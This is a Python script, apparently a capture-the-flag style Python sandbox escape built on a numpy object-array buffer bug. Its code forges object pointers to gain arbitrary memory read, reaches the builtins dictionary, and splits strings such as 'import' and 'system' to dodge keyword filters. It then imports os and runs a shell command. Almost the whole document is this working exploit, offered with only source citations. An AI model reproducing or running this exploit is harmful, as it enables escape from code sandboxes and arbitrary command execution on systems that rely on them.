# source: https://github.com/numpy/numpy/issues/6811 (open numpy bug: np.frombuffer(np.array(None), np.int64)[0] = 1 segfaults -- object array buffers are writable)
# source: pyjail memory-corruption escapes (addrof/fakeobj + fake bytearray arbitrary read, CTF writeups e.g. "python jail fake bytearray id()");
#         numpy ndarray.data buffer of an object array exposes writable PyObject* slots
# family: numpy object-array buffer -> fakeobj -> arbitrary read -> builtins -> import
# goal: run the `id` command through os.system (no id() builtin used: addrof via the same buffer)
import json
import numpy as np

holder = np.array([None], dtype=object)
slots = holder.data.cast("B").cast("Q")


def addr_of(o):
    holder[0] = o
    return slots[0]


def fake(addr):
    slots[0] = addr
    return holder[0]


def q(x):
    return x.to_bytes(8, "little")


big = 0x7FFFFFFFFFFF
payload = q(0x100000) + q(addr_of(bytearray)) + q(big) + q(big) + q(0) + q(0) + q(0)
mem = fake(addr_of(payload) + 32)


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


bdict = fake(rd(addr_of(json.dumps) + 24))
u = "_" * 2
imp = bdict[u + "imp" + "ort" + u]
mod = imp("o" + "s")
print(mod)
mdict = fake(rd(addr_of(mod) + 16))
mdict["sys" + "tem"]("i" + "d")
holder[0] = None
